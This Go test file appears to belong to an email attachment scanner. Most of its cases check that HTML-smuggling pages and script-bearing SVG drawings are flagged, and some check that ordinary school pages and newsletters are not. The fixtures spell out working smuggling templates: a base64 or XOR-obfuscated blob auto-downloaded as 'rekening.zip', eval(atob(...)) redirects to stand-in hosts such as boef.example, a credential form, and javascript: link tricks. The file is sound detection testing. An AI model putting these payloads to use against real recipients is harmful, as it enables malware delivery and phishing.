package extract

import (
	"encoding/hex"
	"fmt"
	"slices"
	"strings"
	"testing"
)

// numbers writes bytes as a script lists them.
func numbers(s, format string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, format, s[i])
	}
	return strings.TrimRight(b.String(), ", ")
}

// hiding is a script that gives a reader what d stands for as a file.
func hiding(d string) string {
	return "<html><body><script>var d=" + d + ";var b=atob(d),a=new Uint8Array(b.length);" +
		"for(var i=0;i<b.length;i++)a[i]=b.charCodeAt(i)^7;var u=URL.createObjectURL(new Blob([a]));" +
		"var l=document.createElement('a');l.href=u;l.download='rekening.zip';l.click();</script></body></html>"
}

// A page that makes a file of what it holds, and a drawing that has a script, are found (C2.9a).
func TestPagesThatActAreFound(t *testing.T) {
	packed := string(zipOf("rekening.js", "var a = 1"))
	random := string(photo(3000)[20:])
	spelled := strings.NewReplacer("createObjectURL", "['crea'+'teObj'+'ectURL']", "atob", "window['at'+'ob']",
		"Blob", "window['\\x42lob']")
	large := string(zipOf("a.bin", random+random, "rekening.js", strings.Repeat("x", 200_000),
		"b.bin", string(photo(100_000))))
	for name, c := range map[string]struct{ file, content string }{
		"a list of numbers":               {"a.html", "<html><script>var d=[" + numbers(program(), "%d,") + "]</script>"},
		"a list of numbers with blanks":   {"a.html", "<html><script>var d=new Uint8Array([\n" + numbers(packed, "%d, ") + "\n])</script>"},
		"a list of hexadecimal numbers":   {"a.html", "<html><script>var d=[" + numbers(packed, "0x%02x,") + "]</script>"},
		"escapes":                         {"a.html", "<html><script>var d='" + numbers(packed, "\\x%02x") + "'</script>"},
		"escapes of Unicode":              {"a.html", "<html><script>var d='" + numbers(program(), "\\u00%02x") + "'</script>"},
		"escapes of addresses":            {"a.html", "<html><script>var d=unescape('" + numbers(packed, "%%%02x") + "')</script>"},
		"short pieces":                    {"a.html", "<html><script>var d='" + lines(b64(packed), 12, "' + '") + "'</script>"},
		"a large list":                    {"a.html", "<html><script>var d=[" + numbers(large, "%d,") + "]</script>"},
		"a script file":                   {"a.xhtml", "<?xml version=\"1.0\"?><html><script>var d='" + lines(b64(packed), 20, "'+'") + "'</script></html>"},
		"bytes that a script decodes":     {"a.html", hiding("'" + b64(random) + "'")},
		"the same in hexadecimal":         {"a.html", hiding("'" + hex.EncodeToString([]byte(random)) + "'")},
		"the same in pieces":              {"a.html", hiding("'" + lines(b64(random), 50, "'+\n'") + "'")},
		"the same in numbers":             {"a.html", hiding("[" + numbers(random, "%d,") + "]")},
		"the same with words in pieces":   {"a.html", spelled.Replace(hiding("'" + b64(random) + "'"))},
		"an archive with a password":      {"a.html", hiding("'" + b64(string(flagged(storedZip(8, "a.doc", random)))) + "'")},
		"an archive in another script":    {"a.html", "<html><script>var d='" + b64(string(zipOf("a.doc", random))) + "'</script>" + strings.Replace(hiding("d"), "<html>", "", 1)},
		"a page in an address":            {"a.html", "<html><iframe src=\"data:text/html,%3Cscript%3Ed='" + strings.ReplaceAll(b64(packed), "+", "%2B") + "'%3C/script%3E\">"},
		"a page in an attribute":          {"a.html", "<html><iframe srcdoc=\"&lt;script&gt;d='" + lines(b64(packed), 12, "'+'") + "'&lt;/script&gt;\">"},
		"a drawing in a page that acts":   {"a.html", "<html><img src=\"data:image/svg+xml;base64," + b64("<svg onload='x'><rect/></svg>") + "\">"},
		"a drawing with a script":         {"a.svg", "<svg><script><![CDATA[location.href='https://kwaad.example']]></script></svg>"},
		"a drawing with a prefix":         {"a.svg", "<?xml version=\"1.0\"?><!-- x --><s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>x</s:script></s:svg>"},
		"a drawing that fetches a script": {"a.svg", "<svg><script xlink:href='https://kwaad.example/a.js'/></svg>"},
		"a drawing that loads":            {"a.svg", "<svg onload=\"location='https://kwaad.example'\"></svg>"},
		"a drawing with a link":           {"a.svg", "<svg><a xlink:href=' javascript:alert(1)'><text>klik</text></a></svg>"},
		"a drawing with a split link":     {"a.svg", "<svg><a xlink:href='java&#10;scr&Tab;ipt:alert(1)'><text>klik</text></a></svg>"},
		"a drawing with a control":        {"a.svg", "<svg><a href='&#1;JavaScript:alert(1)'><text>klik</text></a></svg>"},
		"a drawing that animates a link":  {"a.svg", "<svg><a><animate attributeName='href' values='#;javascript:alert(1)'/></a></svg>"},
		"a drawing that sets a link":      {"a.svg", "<svg><a><s:set attributeName='xlink:href' to='java\tscript:x'/></a></svg>"},
		"a drawing that starts at a link": {"a.svg", "<svg><a><animate attributeName='href' from='javascript:x' to='#'/></a></svg>"},
		"a drawing with a frame":          {"a.svg", "<svg><foreignObject><iframe src='https://kwaad.example'></iframe></foreignObject></svg>"},
		"a drawing in another root":       {"a.svg", "<x><svg><script>x</script></svg></x>"},
		"a drawing by its content":        {"a.dat", "<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>"},
		"a drawing that is packed":        {"a.svgz", string(gzipOf("", []byte("<svg><script>x</script></svg>")))},
	} {
		for where, m := range map[string]string{
			"attached": attached(c.file, "application/octet-stream", []byte(c.content)),
			"in a zip": attached("map.zip", "application/zip", zipOf(c.file, c.content)),
		} {
			if got := dangers(showMessage(t, m).report); got == "" {
				t.Errorf("%s, %s: got nothing, want a program or that it acts", name, where)
			}
		}
	}
}

// A short script that brings a reader a file or an address out of what stands in it acts, whatever the bytes are
// (C2.9a).
func TestShortScriptsThatHideWhatTheyBringAreFound(t *testing.T) {
	packed := string(zipOf("rekening.js", "var a = 1"))
	changed := []byte(packed)
	for i := range changed {
		changed[i] ^= 77
	}
	turned := []byte(b64(packed))
	slices.Reverse(turned)
	escapes := numbers("<form action=\"https://boef.example/p\"><input name=p></form>", "%%%02x")
	for name, script := range map[string]string{
		"numbers that it changes":     "var k=[" + numbers(string(changed), "%d, ") + "];var u=new Uint8Array(k.map(function(x){return x^77}));a.href=URL.createObjectURL(new Blob([u]));a.download='r.zip';a.click()",
		"a string that it turns":      "const k='" + string(turned) + "'.split('').reverse().join('');const w=Uint8Array.from(atob(k),c=>c.charCodeAt(0));location.href = URL.createObjectURL(new File([w],'r.zip'))",
		"a file for an old browser":   "var s='" + string(turned) + "',b=atob(s.split('').reverse().join(''));navigator.msSaveBlob(new Blob([b]),'r.zip')",
		"a page in escapes":           "document.write(unescape('" + escapes + "'))",
		"a page in escapes of UTF-8":  "document.body.innerHTML = decodeURIComponent( \"" + escapes + "\" )",
		"a page in base64":            "document.writeln(atob('" + b64("<script src=https://boef.example>") + "'))",
		"code in base64":              "eval ( atob('" + b64("location='https://boef.example/x'") + "'))",
		"code as a function":          "new Function(window.atob('" + b64("location='https://boef.example/x'") + "'))()",
		"an address in base64":        "location.replace(atob('" + b64("https://boef.example/in") + "'))",
		"an address, and who":         "window.location.href=atob('" + b64("https://boef.example/in") + "')+location.hash",
		"an address in a variable":    "var u = atob('" + b64("https://boef.example/in") + "'); window.location = u",
		"an address that is in parts": "location = atob('" + b64("https://boef")[:12] + "' + '" + b64("https://boef.example/in")[12:] + "')",
	} {
		m := attached("rooster.html", "text/html", []byte("<html><script>"+script+"</script>"))
		if got := dangers(showMessage(t, m).report); got == "" {
			t.Errorf("%s: got nothing, want that it acts", name)
		}
	}
}

// Scripts of saved pages, exercises and newsletters raise no alarm.
func TestOrdinaryShortScriptsRaiseNoAlarm(t *testing.T) {
	jpeg := b64("\xff\xd8\xff\xe0\x00\x10JFIF" + string(photo(600)))
	export := "a.href=URL.createObjectURL(new Blob([new Uint8Array([239,187,191]),csv(d)]));" +
		"a.download='lijst.csv';a.click()"
	story := strings.Repeat("<p>De gemeenteraad heeft besloten dat de bibliotheek blijft.", 10)
	for name, script := range map[string]string{
		"a saved page's statistics":  "document.write(unescape(\"%3Cscript src='\" + host + \"google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));",
		"a saved page's jQuery":      "window.jQuery || document.write(unescape('%3Cscript%20src=%22js/jquery-1.5.1.min.js%22%3E%3C/script%3E'))",
		"an address of mail":         "location.href = atob('" + b64("mailto:info@school.example") + "')",
		"an address of mail, hidden": "document.write(unescape('" + numbers("<a href='mailto:info@school.example'>mail</a>", "%%%02x") + "'))",
		"a lesson on base64":         "document.write(atob('" + b64("Hallo wereld, dit is base64") + "'))",
		"marks that it exports":      "var d=[" + numbers(strings.Repeat("\x37\x41\x4b\x55\x5a\x32", 40), "%d,") + "];" + export,
		"years that it exports":      "var d=[" + strings.Repeat("2024,2025,2026,", 40) + "];" + export,
		"a picture that it saves":    "var p='" + jpeg + "';a.href=URL.createObjectURL(new Blob([Uint8Array.from(atob(p))]));a.download='foto.jpg';a.click()",
		"an exercise of GeoGebra":    "var p={\"appName\":\"classic\",\"ggbBase64\":\"" + b64(string(photo(900))) + "\"};var applet=new GGBApplet(p,'5.0');applet.inject('g');window.location.hash='x'",
		"a library":                  strings.Repeat("function f(a){return eval(atob(a))+new Blob([new Uint8Array(a)])+URL.createObjectURL(a)+a.download}", 200) + "var l='" + b64(string(photo(900))) + "'",
		"a link to decode":           "var q = decodeURIComponent(location.search.slice(1)); document.title = q; location.href = 'https://school.example/' + q",
	} {
		for where, m := range map[string]string{
			"attached": attached("les.html", "text/html", []byte("<html><script>"+script+"</script>"+story)),
			"body":     "Content-Type: text/html\n\n<html><script>" + script + "</script>",
		} {
			if got := dangers(showMessage(t, m).report); got != "" {
				t.Errorf("%s, %s: got %q, want nothing", name, where, got)
			}
		}
	}
}

// Pages and drawings as people and their programs make them raise no alarm.
func TestOrdinaryPagesRaiseNoAlarm(t *testing.T) {
	random := string(photo(3000)[20:])
	for name, c := range map[string]struct{ file, content string }{
		"a logo":                             {"a.svg", "<?xml version=\"1.0\"?><svg xmlns='x'><style>.a{fill:red}</style><path class='a' d='M1,2,3,4,5,6,7,8'/></svg>"},
		"a drawing with data":                {"a.svg", "<svg><image href='data:image/png;base64," + b64("\x89PNG\r\n\x1a\n"+random) + "'/><a href='https://school.example'><text>school</text></a></svg>"},
		"a drawing that moves":               {"a.svg", "<svg><rect><animate attributeName='x' values='0;10;0' dur='2s'/><set attributeName='fill' to='red' begin='click'/></rect></svg>"},
		"a page of a timetable":              {"rooster.html", "<html><script>document.title='rooster';var d=[1,2,3,4,5,6,7,8]</script><table></table></html>"},
		"a page with a chart":                {"grafiek.html", "<html><script>var d=[" + numbers(strings.Repeat("\x05\x07\x09\x0b", 200), "%d,") + "];teken(d)</script></html>"},
		"a page that exports":                {"lijst.html", "<html><script>function bewaar(){var b=new Blob([tabel()],{type:'text/csv'});a.href=URL.createObjectURL(b);a.download='lijst.csv';a.click()}</script></html>"},
		"a page with pictures that it saves": {"a.html", hiding("'" + b64("\x89PNG\r\n\x1a\n"+random) + "'")},
		"a chart of a library": {"a.html", "<html><script>" + strings.Repeat("function f(a){return atob(a)+new Blob([a])+URL.createObjectURL(a)+a.download}", 50) +
			"</script><script>Plotly.newPlot('a',{bdata:'" + b64(random) + "'})</script></html>"},
		"a lesson on scripts":    {"les.html", "<html><pre>var b = new Blob([atob(d)]); a.download = 'x'; a.click(); URL.createObjectURL(b)</pre></html>"},
		"structured data":        {"a.html", "<html><script type='application/ld+json'>{\"@type\":\"Event\",\"id\":\"" + b64(random) + "\"}</script></html>"},
		"a newsletter's drawing": {"a.html", "<html><body><svg><path d='M0'/></svg><script>window.dataLayer=[]</script></body></html>"},
	} {
		if got := dangers(showMessage(t, attached(c.file, "text/html", []byte(c.content))).report); got != "" {
			t.Errorf("%s: got %q, want nothing", name, got)
		}
	}
}
